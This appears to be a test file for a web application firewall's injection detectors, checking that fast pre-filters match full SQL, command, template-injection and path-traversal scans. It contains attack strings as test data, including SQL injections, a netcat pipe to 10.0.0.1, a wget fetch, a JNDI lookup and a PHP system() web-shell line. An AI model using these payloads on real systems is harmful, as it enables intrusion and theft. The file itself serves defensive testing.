import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { C, charMask } from '../../src/waf/char-mask.js';
import { ATTACK_CLASSES, type AttackClass } from '../../src/waf/classes.js';
import { commandWordAt, detectCmdi, plainNonCommand } from '../../src/waf/cmdi.js';
import { Inspector, sqlGate } from '../../src/waf/inspector.js';
import { decodeHtmlEntities, normaliseValue, percentDecodeOnce } from '../../src/waf/normalise.js';
import {
  detectSqli,
  detectSqliUnfiltered,
  needsPlainReading,
  needsPlainReadingSlow,
} from '../../src/waf/sqli.js';
import {
  CATALOGUE_NAMES,
  DOTTED_CATALOGUE,
  SIGNAL_HASHES,
  SIGNAL_WORDS,
  TWO_CHAR_OPS,
  tokenizeSql,
} from '../../src/waf/sql-tokens.js';
import { detectSsti } from '../../src/waf/ssti.js';
import { findSensitivePath, findWrapper, SENSITIVE_PATHS, WRAPPERS } from '../../src/waf/traversal.js';

/**
 * The inspector skips detectors by the characters and words a value contains (its charMask), and
 * the SQL and command detectors take short cuts from the same mask. The short cuts must not change
 * a verdict: these tests compare them with the full readings over random values built from the
 * pieces the rules look for. (The older gates of the other classes are heuristics of their own,
 * described in docs/injection.md; they are covered by the corpus rates.)
 */

/** mulberry32, so failures reproduce. */
function random(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const PIECES = [
  ...`'"\`;|&$<>(){}[]\\/.%#*=-+@:!?~^ \n\t\r\0aZ09é_`,
  ...[
    'on',
    'or',
    'and',
    'OR',
    'union',
    'Union',
    'select',
    'SELECT',
    ' by ',
    'sleep(',
    'from',
    'drop',
    'table',
  ],
  ...['sh', 'cmd', '/bin/', '/bin/sh', 'cmd.exe', 'cmd /c', 'powershell -', '${IFS}', '$ifs$', 'whoami'],
  ...['cat ', 'ls', 'id', '..', '/etc/passwd', '<script', 'onerror=', 'javascript:', '{{', '}}', '${'],
  ...['$ne', '$where', 'this.', '==', '%27', '%2e', '%3B', '&lt;', '&#x27;', '&#59;', 'ｓｅｌｅｃｔ', 'İ'],
  ...['\u212a', 'information_schema', 'master', 'exec', 'xp_cmdshell', 'waitfor', 'having', 'xor'],
  ...['PG_USER', '.pg_user', 'user_tables', 'sysobjects'],
  ...[
    '1or',
    '1e5',
    '1.',
    'e',
    'pg_catalog',
    'true',
    'exec ',
    'EXECUTE\t',
    'execx ',
    'sp_who',
    'xp_',
    ' \u00a0',
  ],
  ...['||', '&&', '--', '/*', '@@version', 'into', 'outfile', ' the', "O'Reilly", 'ß', '1', '=1', ' OR '],
];

function randomValue(next: () => number): string {
  let value = '';
  const pieces = 1 + Math.floor(next() * 12);
  for (let i = 0; i < pieces; i++) value += PIECES[Math.floor(next() * PIECES.length)];
  return value;
}

/** Numbers in the lexer's forms, and what may follow one without a blank (`1or 1=1`). */
const NUMBERS = [
  '1',
  '-1',
  '0',
  '42',
  '1e',
  '1E5',
  '1e5',
  '1.',
  '1..',
  '.5',
  '0x',
  '0x1',
  '0xab',
  '0XAb',
  '0x7f',
  '0xe',
  '1e+',
  '1e-',
  'e',
  'E2',
];
const AFTER_NUMBER = [
  ...['or', 'OR', 'and', 'And', 'xor', 'not', 'union', 'UNION', 'select', 'having', 'order', 'by', 'into'],
  ...['or ', 'and ', 'xor ', ' or ', 'exec', 'waitfor', 'pg_catalog', 'PG_CATALOG', 'information_schema'],
  ...['master', 'true', 'null', 'like', 'sleep(', 'outfile', 'delay', 'rd', 'kg', 'th', '_', 'é', 'x'],
  ...[' ', '\t', ' 1', '=1', '>1', '1=1', '2>1', '-', '(', ')', '/', '*', '.', ',', '+', '!', '~'], // SQL's blanks besides the space, around words (`1\tor\ttrue`, `1\nor\n1`)
  ...['\n', '\r', '\v', '\f', '\u00a0', '\tor\t', '\nor\n', '\rand\r', '\vxor\v', '\for ', '\tby\t', 'or\n'],
  ...['\torder\tby\t', '\n', "'\tor\t'", '\r\n', ' or\t', '\tand '],
];

/** Statement heads and the words that make them statements (level 2's bare-statement rule). */
const STATEMENT_PIECES = [
  ...['drop', 'DROP ', 'Drop', 'delete', 'DELETE ', 'insert', 'Insert ', 'update ', 'UPDATE', 'truncate '],
  ...[
    'exec ',
    'EXEC ',
    'execute ',
    'alter ',
    'create ',
    'shutdown',
    'SHUTDOWN',
    'grant ',
    'revoke ',
    'load ',
  ],
  ...[
    'table',
    ' TABLE ',
    ' database',
    ' from ',
    ' into ',
    ' set ',
    ' to ',
    ' on ',
    ' with',
    'data',
    ' users',
  ],
  ...['thetable', ' role=admin', ' values(1)', ' Friday?', 'drop1', 'dropbox', 'updates', '_drop', '(', ' ('],
  // level 2's functions, and a `(` first in the value before one (`(a) char(65)`)
  ...['char(', 'CONCAT(', '(a) ', '(1)'],
  ...['exec master..xp_cmdshell', ' master.dbo.', 'master..', 'exec master . . x', ' master . dbo .'],
  // table aliases (`update users u set`, `delete u from users u`)
  ...[' u', ' as u', ' u from', ' users u set', ' from users u'],
  // catalogue names with a dot and no other punctuation (`pg_catalog.pg_user`), and `master.`
  ...['pg_catalog.pg_user', ' user_tables', '.', ' pg_user', 'x.', '\u00a0', ' master.'],
  // dotted catalogue names (`mysql.user`), near misses and their schemas alone
  ...[
    'mysql.user',
    'SYS.OBJECTS',
    'sys . tables',
    'sys.stdout',
    ' mysql',
    'sys',
    '.user',
    '.objects',
    'mysql.users',
  ],
];

/** Values built around statement words, among the other pieces. */
function statementValue(next: () => number): string {
  let value = '';
  const pieces = 1 + Math.floor(next() * 8);
  for (let i = 0; i < pieces; i++) {
    const list = next() < 0.7 ? STATEMENT_PIECES : PIECES;
    value += list[Math.floor(next() * list.length)];
  }
  return value;
}

/** One of the three value generators, in turn. */
function sqlGateValue(next: () => number, i: number): string {
  return i % 3 === 0 ? numberWordValue(next) : i % 3 === 1 ? randomValue(next) : statementValue(next);
}

/** Values where numbers touch words, among the other pieces. */
function numberWordValue(next: () => number): string {
  let value = '';
  const pieces = 1 + Math.floor(next() * 10);
  for (let i = 0; i < pieces; i++) {
    const r = next();
    const list = r < 0.35 ? NUMBERS : r < 0.85 ? AFTER_NUMBER : PIECES;
    value += list[Math.floor(next() * list.length)];
  }
  return value;
}

describe('pre-filter soundness', () => {
  test('the level-1 cmdi gate skips only values detectCmdi finds nothing in', () => {
    const next = random(5);
    const inspector = new Inspector({ paranoia: 1, classes: new Set(['cmdi']) });
    for (let i = 0; i < 50_000; i++) {
      const raw = randomValue(next);
      if (raw.length < 2) continue;
      const v = normaliseValue(raw, true);
      assert.equal(
        inspector.inspectValue(raw, true)?.rule,
        detectCmdi(v.text, v.lower, 1),
        JSON.stringify(raw),
      );
    }
  });

  test('detectors given the mask report what they report computing it themselves', () => {
    const next = random(7);
    for (let i = 0; i < 30_000; i++) {
      const v = normaliseValue(randomValue(next), true);
      for (const level of [1, 2, 3] as const) {
        assert.equal(
          detectSqli(v.text, v.lower, level, v.hadNul, v.mask),
          detectSqli(v.text, v.lower, level),
        );
        assert.equal(
          detectCmdi(v.text, v.lower, level, v.hadNul, v.mask),
          detectCmdi(v.text, v.lower, level),
        );
      }
    }
  });

  test('the mask-based plain-reading decision equals the character-by-character one', () => {
    const next = random(11);
    for (let i = 0; i < 50_000; i++) {
      const text = randomValue(next);
      const lower = text.toLowerCase();
      assert.equal(
        needsPlainReading(lower, 1, charMask(text)),
        needsPlainReadingSlow(lower),
        JSON.stringify(text),
      );
    }
  });

  test('the cmdi jump over one kind of separator finds what the full scan finds', () => {
    const next = random(17);
    for (let i = 0; i < 50_000; i++) {
      const lower = randomValue(next).toLowerCase();
      const mask = charMask(lower);
      for (const level of [1, 2] as const) {
        // a newline bit forces the character-by-character scan
        assert.equal(
          detectCmdi(lower, lower, level, false, mask),
          detectCmdi(lower, lower, level, false, mask | C.newline),
          JSON.stringify(lower),
        );
      }
    }
  });

  test('the word bits see every signal word the lexer reads (`1or` is `1` and `or`)', () => {
    const next = random(53);
    for (let i = 0; i < 50_000; i++) {
      const text = i % 2 === 0 ? numberWordValue(next) : randomValue(next);
      const mask = charMask(text);
      // the word bits are not relied on with non-ASCII characters or NUL
      if ((mask & (C.nonAscii | C.control)) !== 0) continue;
      const word = tokenizeSql(text, '').some(
        (t) => t.type !== '1' && t.type !== 's' && t.type !== 'v' && SIGNAL_WORDS.has(t.value),
      );
      if (word) assert.ok((mask & C.sqlWord) !== 0, JSON.stringify(text));
    }
  });

  test('charMask word bits: SQL words in any case, whole words only, and calls', () => {
    assert.ok((charMask('1 UNION all') & C.sqlWord) !== 0);
    assert.ok((charMask('Please Select one') & C.sqlWord) !== 0);
    assert.ok((charMask('a reunion, selection, orders') & C.sqlWord) === 0);
    assert.ok((charMask('information_schema') & C.sqlWord) !== 0);
    assert.ok((charMask('sleep(5)') & C.call) !== 0);
    assert.ok((charMask('sleep (5)') & C.call) === 0);
    assert.ok((charMask('snake_case') & C.underscore) !== 0);
    // after a number, as the SQL lexer reads it
    for (const value of [
      '1or 1=1',
      '-1OR 2>1',
      '1e5union',
      '1eor',
      '1.eor',
      '0PG_CATALOG',
      '1.e2having',
      '0x1or',
      '0XABor',
      '0xfunion',
    ])
      assert.ok((charMask(value) & C.sqlWord) !== 0, value);
    for (const value of [
      '3rd floor',
      '75002',
      'Espresso beans, 1 kg',
      '2nd',
      'a1or',
      'x.eor',
      '1e5e5or',
      '0x1and',
      '0xa1',
    ])
      assert.ok((charMask(value) & C.sqlWord) === 0, value);
  });
});

describe('attacks the pre-filter must not let through (level 1)', () => {
  const inspector = new Inspector({ paranoia: 1, classes: new Set(ATTACK_CLASSES) });
  const cases: [string, boolean, AttackClass][] = [
    // SQL words only found after decoding, folding or NUL removal
    ['1 ｕｎｉｏｎ ｓｅｌｅｃｔ password from users', false, 'sqli'],
    ['1 un\0ion sel\0ect password from users', false, 'encoding'],
    ['x&#x27; UnIoN SeLeCt password FROM users--', false, 'sqli'],
    ['x%27%20or%201%3D1--', true, 'sqli'],
    ['1;DROP TABLE users', false, 'sqli'],
    ['1 &#59; drop table users', false, 'sqli'],
    ['x OR 1=1', false, 'sqli'],
    ['(sleep(5)', false, 'sqli'],
    ['(SLEEP(5)', false, 'sqli'],
    // a number directly before a word: the lexer reads `1or` as `1 or` (MySQL accepts it)
    ['1or 1=1', false, 'sqli'],
    ['-1or 2>1', false, 'sqli'],
    ['1and 1=1', false, 'sqli'],
    ['1or true', false, 'sqli'],
    ['1xor 1', false, 'sqli'],
    ['1e5or 1=1', false, 'sqli'],
    ['1.or true', false, 'sqli'],
    ['1union select null', false, 'sqli'],
    ['1order by 3', false, 'sqli'],
    ['-0PG_CATALOG', false, 'sqli'],
    ['1%6fr%201=1', true, 'sqli'],
    // command separators behind entities and percent-encoding (JSON strings get one URL decode)
    ['a&#59;whoami', false, 'cmdi'],
    ['a%3Bwhoami', true, 'cmdi'],
    ['a%7Cwhoami', true, 'cmdi'],
    ['a ＆＆ whoami', false, 'cmdi'],
    ['please; /bin/sh -c id', false, 'cmdi'],
    ['run CMD.EXE /c dir', false, 'cmdi'],
    // one separator kind among prose, the attack at the last occurrence
    ['tea; coffee; milk; sugar;wget http://x/y', false, 'cmdi'],
    ['tea & coffee & milk &whoami', false, 'cmdi'],
  ];
  for (const [value, urlDecode, cls] of cases) {
    test(JSON.stringify(value), () => {
      assert.equal(inspector.inspectValue(value, urlDecode)?.class, cls);
    });
  }
});

/** Whether a reading of `text` (unquoted, after `'`, after `"`) has a catalogue name token. */
function hasCatalogueName(text: string): boolean {
  return (['', "'", '"'] as const).some((quote) =>
    tokenizeSql(text, quote).some(
      (t, i, all) =>
        t.type === 'n' &&
        (CATALOGUE_NAMES.has(t.value) ||
          (all[i + 1]?.type === '.' &&
            all[i + 2]?.type === 'n' &&
            DOTTED_CATALOGUE.get(t.value)?.has(all[i + 2]!.value) === true)),
    ),
  );
}

describe('SQL gates', () => {
  test("detectSqli's pre-checks skip only values its rules find nothing in", () => {
    const next = random(61);
    for (let i = 0; i < 100_000; i++) {
      const raw = sqlGateValue(next, i);
      const v = normaliseValue(raw, true);
      for (const level of [1, 2] as const) {
        const full = detectSqliUnfiltered(v.text, level);
        // left alone by design without SQL punctuation: a catalogue name in a value without a `.`
        // (`information_schema`) and `master.` (also the end of an English sentence)
        if (full === 'sqli.catalogue' && !(v.text.includes('.') && hasCatalogueName(v.text))) continue;
        assert.equal(detectSqli(v.text, v.lower, level), full, `${level} ${JSON.stringify(raw)}`);
      }
    }
  });

  test('the level-1 gate skips only values detectSqli finds nothing in', () => {
    const next = random(23);
    const inspector = new Inspector({ paranoia: 1, classes: new Set(['sqli']) });
    for (let i = 0; i < 100_000; i++) {
      const raw = sqlGateValue(next, i);
      if (raw.length < 2) continue;
      const v = normaliseValue(raw, true);
      assert.equal(
        inspector.inspectValue(raw, true)?.rule,
        detectSqli(v.text, v.lower, 1),
        JSON.stringify(raw),
      );
    }
  });

  test("level 2 refuses what level 1 refuses, and gives detectSqli's verdict where sqlGate passes", () => {
    const next = random(59);
    const level2 = new Inspector({ paranoia: 2, classes: new Set(['sqli']) });
    const level1 = new Inspector({ paranoia: 1, classes: new Set(['sqli']) });
    for (let i = 0; i < 75_000; i++) {
      const raw = sqlGateValue(next, i);
      if (raw.length < 2) continue;
      const v = normaliseValue(raw, true);
      const found = level2.inspectValue(raw, true)?.rule;
      if (level1.inspectValue(raw, true) !== undefined)
        assert.notEqual(found, undefined, JSON.stringify(raw));
      if (sqlGate(v.mask, v.lower)) assert.equal(found, detectSqli(v.text, v.lower, 2), JSON.stringify(raw));
      // the level-2 gate never skips a value detectSqli refuses at level 2
      const level2Rule = detectSqli(v.text, v.lower, 2);
      if (level2Rule !== undefined) assert.equal(found, level2Rule, `${level2Rule} ${JSON.stringify(raw)}`);
    }
  });
});

describe('SQL lexer tables', () => {
  test('every two-character operator ends in a character the lexer pre-checks (= < > | & :)', () => {
    assert.ok(TWO_CHAR_OPS.size > 10);
    for (const op of TWO_CHAR_OPS) assert.ok('=<>|&:'.includes(op[1] as string), op);
  });
});

/** The pieces the short cuts below look at: words, shell commands, paths, wrappers, templates. */
const MORE_PIECES = [
  ...PIECES,
  ...[...SIGNAL_WORDS].flatMap((w) => [w, w.toUpperCase(), ' ' + w + ' ']),
  ...['Or', 'sElect', 'xİ', 'or\u212a', 'K', 'abcdefghijklmnopqrstuvwxyzabcdefgh', '_', 'x1', '0x1', '0XaB'],
  ...[' sleep 5', '|whoami', '; cat ', "w'h'o'am'i", '$(id)', '`id`', '/usr/bin/id', 'ls${IFS}-la'],
  ...['; ping -c 1 x.y', '& nslookup a.b', 'powershell.exe', 'whoami.exe', '| nc ', '; echo "x"', 'net1'],
  ...[...SENSITIVE_PATHS, ...WRAPPERS, 'p:', 'a:', '/./', '//', '\\', 'C:\\Windows', 'WIN.INI'],
  ...['<?php', '{$smarty', '${t(', '__class__.__', '#{t(', '.getclass().forname', '${jndi:', '<%', '[%'],
  ...['#{', '{%', '@(', '[[', '7*7', 'config', '#set(', '<#assign', '@java.lang', 'java.lang.runtime'],
  ...['%', '%%', '%4', '%C3%A9', '%c0%ae', '&amp;', '&amp;lt;', '&#0;', '&#37;27', '%26lt;', '&', '&#'],
  ...['&lt', '&quot', '&nbsp;', '&#xFF1C;', '&#65308;', '%EF%BC%9C', 'ｓ'],
];

function anotherValue(next: () => number): string {
  let value = '';
  const pieces = 1 + Math.floor(next() * 12);
  for (let i = 0; i < pieces; i++) value += MORE_PIECES[Math.floor(next() * MORE_PIECES.length)];
  return value;
}

/** charMask as it was first written (a hash per character), the reference for the table-driven one. */
function referenceCharMask(value: string): number {
  const word = (c: number): number =>
    (c >= 48 && c <= 57) || (c >= 97 && c <= 122) || c === 95 ? c : c >= 65 && c <= 90 ? c + 32 : 0;
  // the word bits: sqlWord, and catalogue too for a catalogue name
  const signal = (start: number, end: number, hash: number): number => {
    const lower = value.slice(start, end).toLowerCase();
    if (end - start > 20 || !SIGNAL_HASHES.has(hash) || !SIGNAL_WORDS.has(lower)) return 0;
    return C.sqlWord | (CATALOGUE_NAMES.has(lower) || DOTTED_CATALOGUE.has(lower) ? C.catalogue : 0);
  };
  const signalAt = (from: number, end: number): number => {
    let h = 0;
    for (let k = from; k < end; k++) {
      const c = value.charCodeAt(k);
      h = (Math.imul(h, 31) + (c >= 128 ? c : word(c))) | 0;
    }
    return signal(from, end, h);
  };
  // the SQL lexer reads a run that starts with a number (or an exponent after the dots of a run
  // that starts with a digit) as the number and a word: `1or`, `1e5union`, `eor` after `1.`
  // (after an exponent's sign, `1exec` is `1` and `exec`: both places count); a hex literal
  // ends at its last hex digit (`0x1or`, `0xabor`)
  const lexerWord = (start: number, end: number): number =>
    [
      /^0[xX][0-9a-fA-F]+/,
      /^[0-9]+/,
      /^[0-9]+[eE][0-9]*/,
      /(?:^|[^A-Za-z0-9_\u0080-\uffff])[0-9][A-Za-z0-9_\u0080-\uffff]*\.+$/.test(value.slice(0, start))
        ? /^[eE][0-9]*/
        : /^$/,
    ].reduce((bits, prefix) => {
      const rest = value.slice(start, end).replace(prefix, '');
      return rest.length < end - start && rest !== '' ? bits | signalAt(end - rest.length, end) : bits;
    }, 0);
  let mask = 0;
  let start = -1;
  let hash = 0;
  for (let i = 0; i < value.length; i++) {
    const c = value.charCodeAt(i);
    if (c >= 128 || word(c) !== 0) {
      if (c >= 128) mask |= C.nonAscii;
      else mask |= charMask(value[i] as string) & ~(C.sqlWord | C.catalogue | C.call);
      if (start === -1) {
        start = i;
        hash = 0;
      }
      hash = (Math.imul(hash, 31) + (c >= 128 ? c : word(c))) | 0;
      continue;
    }
    mask |= charMask(value[i] as string);
    if (start !== -1) {
      if (c === 40) mask |= C.call;
      mask |= signal(start, i, hash) | lexerWord(start, i);
      start = -1;
    }
  }
  if (start !== -1) mask |= signal(start, value.length, hash) | lexerWord(start, value.length);
  return mask;
}

describe('short cuts of the detectors (same verdicts as the full readings)', () => {
  test('charMask equals the per-character reference, word bits included', () => {
    const next = random(29);
    for (let i = 0; i < 50_000; i++) {
      const value = anotherValue(next);
      assert.equal(charMask(value), referenceCharMask(value), JSON.stringify(value));
    }
  });

  test('normalisation decodes only when the mask shows a % or & and gives the decoded reading', () => {
    const next = random(47);
    for (let i = 0; i < 50_000; i++) {
      const raw = anotherValue(next);
      for (const urlDecode of [true, false]) {
        const folded = decodeHtmlEntities(urlDecode ? percentDecodeOnce(raw) : raw).normalize('NFKC');
        const v = normaliseValue(raw, urlDecode);
        assert.equal(v.text, folded.replaceAll('\0', ''), JSON.stringify(raw));
        assert.equal(v.lower, v.text.toLowerCase());
        // the mask is read before NUL removal (its word bits are not relied on with a NUL)
        assert.equal(v.mask, charMask(folded), JSON.stringify(raw));
      }
    }
  });

  test('ssti searches only the needles whose punctuation the value has: same verdicts', () => {
    const next = random(31);
    for (let i = 0; i < 30_000; i++) {
      const v = normaliseValue(anotherValue(next), true);
      for (const level of [1, 2, 3, 4] as const) {
        // a mask with every bit set searches every needle: the reading without the short cut
        assert.equal(
          detectSsti(v.text, v.lower, level, v.hadNul, v.mask),
          detectSsti(v.text, v.lower, level, v.hadNul, -1),
          JSON.stringify(v.text),
        );
      }
    }
  });

  test('traversal finds sensitive paths and wrappers exactly where a plain search does', () => {
    const next = random(37);
    for (let i = 0; i < 50_000; i++) {
      const lower = anotherValue(next).toLowerCase();
      assert.equal(
        findSensitivePath(lower),
        SENSITIVE_PATHS.some((p) => lower.includes(p)),
        JSON.stringify(lower),
      );
      assert.equal(
        findWrapper(lower),
        WRAPPERS.some((w) => lower.includes(w)),
        JSON.stringify(lower),
      );
    }
  });

  test('cmdi dismisses a word after a separator only when it is no command', () => {
    const next = random(41);
    for (let i = 0; i < 20_000; i++) {
      const lower = anotherValue(next).toLowerCase();
      for (let at = 0; at <= lower.length; at++) {
        if (plainNonCommand(lower, at))
          assert.equal(commandWordAt(lower, at), undefined, JSON.stringify([lower, at]));
      }
    }
  });

  test('attacks are still found through the level-1 mask pre-checks', () => {
    const inspector = new Inspector({ paranoia: 1, classes: new Set(ATTACK_CLASSES) });
    const cases: [string, AttackClass][] = [
      ['{{7*7}}', 'ssti'],
      ['${jndi:ldap://x/a}', 'ssti'],
      ['<?php system($_GET[1]); ?>', 'ssti'],
      ['php://filter/resource=index', 'traversal'],
      ['..\\..\\windows\\win.ini', 'traversal'],
      ['see /etc/passwd', 'traversal'],
      ['a; whoami', 'cmdi'],
      ['x | nc 10.0.0.1 4444', 'cmdi'],
      ["O'Reilly' OR '1'='1", 'sqli'],
    ];
    for (const [value, cls] of cases) assert.equal(inspector.inspectValue(value, false)?.class, cls, value);
  });
});
